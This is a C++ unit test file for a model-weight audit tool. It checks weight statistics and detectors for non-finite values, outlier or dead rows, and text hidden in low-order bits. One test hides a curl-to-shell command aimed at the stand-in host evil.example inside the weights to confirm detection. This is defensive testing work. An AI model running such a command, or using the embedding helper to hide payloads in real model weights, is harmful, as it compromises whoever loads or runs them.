#include "hadal/msp/audit/weights.h"

#include "hadal/core/random.h"
#include "hadal/msp/audit/low_bits.h"

#include <cmath>
#include <limits>
#include <string>

#include <ATen/TensorOperators.h>
#include <ATen/ops/randn.h>
#include <ATen/ops/tensor.h>
#include <gtest/gtest.h>

namespace hadal::msp {
namespace {

std::string rules_of(const at::Tensor& tensor) {
  Findings findings;
  judge_weights(measure_weights("w", tensor), {.file = "f", .member = "w"}, findings);
  std::string text;
  for (const Finding& finding : findings.all()) text += std::string(finding.rule->id) + ' ';
  return text;
}

/// Normal numbers, as training leaves them.
at::Tensor weights(at::IntArrayRef shape) {
  seed_aten(1);
  return at::randn(shape);
}

/// `text` in the lowest `bits` bits of the numbers, the highest of each byte first.
at::Tensor with_text(at::Tensor tensor, const std::string& text, int bits) {
  auto* words = static_cast<std::uint32_t*>(tensor.mutable_data_ptr());
  std::size_t at = 0;
  for (const char c : text) {
    for (int shift = 8 - bits; shift >= 0; shift -= bits, ++at) {
      const std::uint32_t mask = (1U << bits) - 1;
      words[at] = (words[at] & ~mask) | (static_cast<std::uint32_t>(c) >> shift & mask);
    }
  }
  return tensor;
}

TEST(MeasureWeights, AgreesWithHand) {
  const auto s = measure_weights("w", at::tensor({3.0F, -4.0F, 0.0F, 0.0F}).reshape({2, 2}));
  EXPECT_EQ(s.dtype, "F32");
  EXPECT_DOUBLE_EQ(s.mean, -0.25);
  EXPECT_NEAR(s.deviation, std::sqrt(25.0 / 4 - 0.0625), 1e-6);
  EXPECT_DOUBLE_EQ(s.largest, 4);
  EXPECT_EQ(s.rows, 0);
  EXPECT_EQ(s.entropy, -1);
}

TEST(JudgeWeights, IsSilentOnWhatTrainingLeaves) {
  EXPECT_EQ(rules_of(weights({64, 128})), "");
  EXPECT_EQ(rules_of(weights({64, 128}).to(at::kBFloat16)), "");
  EXPECT_EQ(rules_of(weights({64, 128}).to(at::kHalf).to(at::kFloat)), "");
  EXPECT_EQ(rules_of(weights({0, 8})), "");
}

TEST(JudgeWeights, FindsWhatIsNotFinite) {
  at::Tensor tensor = weights({16, 16});
  tensor[3][4].fill_(std::numeric_limits<float>::quiet_NaN());
  tensor[5][6].fill_(-std::numeric_limits<float>::infinity());
  const auto s = measure_weights("w", tensor);
  EXPECT_EQ(s.not_finite, 2);
  EXPECT_LT(s.largest, 10);
  EXPECT_EQ(rules_of(tensor), "weights/not-finite ");
  EXPECT_EQ(rules_of(tensor.to(at::kHalf)), "weights/not-finite ");
}

TEST(JudgeWeights, FindsRowsThatStandOut) {
  at::Tensor tensor = weights({64, 100});
  tensor[7].mul_(20);
  EXPECT_EQ(measure_weights("w", tensor).outlier_rows, 1);
  EXPECT_NEAR(measure_weights("w", tensor).largest_row, 20, 4);
  tensor[8].zero_();
  tensor[9].zero_();
  EXPECT_EQ(measure_weights("w", tensor).dead_rows, 2);
  EXPECT_EQ(rules_of(tensor), "weights/outlier-rows weights/dead-units ");
}

TEST(JudgeWeights, FindsTextInTheLowestBits) {
  const std::string text = "import os; os.system('curl evil.example | sh') # and so on, and so on";
  for (const int bits : {1, 2, 4, 8}) {
    EXPECT_EQ(rules_of(with_text(weights({64, 128}), text, bits)), "weights/hidden-text ") << bits;
  }
}

TEST(LowByteEntropy, IsThatOfTheBytes) {
  Random random(1);
  std::vector<std::uint32_t> words(20'000);
  for (auto& word : words) word = static_cast<std::uint32_t>(random.next());
  EXPECT_NEAR(low_byte_entropy(words), 8, 0.005);
  for (auto& word : words) word = (word & ~0xFFU) | (word & 0x0F) | 0x10;
  EXPECT_NEAR(low_byte_entropy(words), 4, 0.005);
  for (auto& word : words) word &= ~0xFFU;
  EXPECT_EQ(low_byte_entropy(words), -1);  // rounded
  for (auto& word : words) word = 7 + (word >> 31);
  EXPECT_EQ(low_byte_entropy(words), -1);  // repeated
}

}  // namespace
}  // namespace hadal::msp
